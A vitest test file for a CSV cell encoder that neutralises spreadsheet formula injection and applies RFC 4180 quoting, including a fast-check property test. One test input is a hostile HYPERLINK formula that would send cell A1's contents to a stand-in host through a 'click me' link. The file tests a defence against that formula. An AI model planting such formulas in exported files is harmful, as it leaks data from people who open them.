import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { readCsv } from '../../test-support/read-csv';
import { csvCell, csvRow } from './csv-cell';

describe('csvCell', () => {
  it('neutralises every formula start, including those only a tab or CR hides', () => {
    expect(csvCell('=HYPERLINK("http://x?a="&A1,"点我")')).toBe(`"'=HYPERLINK(""http://x?a=""&A1,""点我"")"`);
    expect(csvCell('@A1')).toBe("'@A1");
    expect(csvCell('+86 10 1234')).toBe("'+86 10 1234");
    expect(csvCell('-1+1')).toBe("'-1+1");
    expect(csvCell('\t=1')).toBe("'\t=1");
    expect(csvCell('\r=1')).toBe(`"'\r=1"`);
  });

  it('leaves ordinary text, numbers and empties alone', () => {
    expect(csvCell('长江口 产业')).toBe('长江口 产业');
    expect(csvCell('a=b')).toBe('a=b');
    expect(csvCell(-3)).toBe('-3');
    expect(csvCell(12)).toBe('12');
    expect(csvCell(null)).toBe('');
    expect(csvCell(undefined)).toBe('');
    expect(csvCell(Number.NaN)).toBe('');
  });

  it('quotes commas, quotes and line breaks (RFC 4180)', () => {
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('a\nb')).toBe('"a\nb"');
  });

  it('property: any row reads back cell for cell, and no cell starts a formula', () => {
    const hostile = fc.oneof(
      fc.string({ unit: 'grapheme' }),
      fc.string({ unit: fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', ',', '"', "'", 'a', '中') }),
    );
    fc.assert(
      fc.property(fc.array(hostile, { minLength: 1, maxLength: 6 }), (cells) => {
        const [back = []] = readCsv(`${csvRow(cells)}\r\n`);
        expect(back).toHaveLength(cells.length);
        back.forEach((cell, i) => {
          expect(cell).not.toMatch(/^[=+\-@\t\r]/);
          const original = cells[i]!;
          expect(cell === original || cell === `'${original}`).toBe(true);
        });
      }),
    );
  });
});
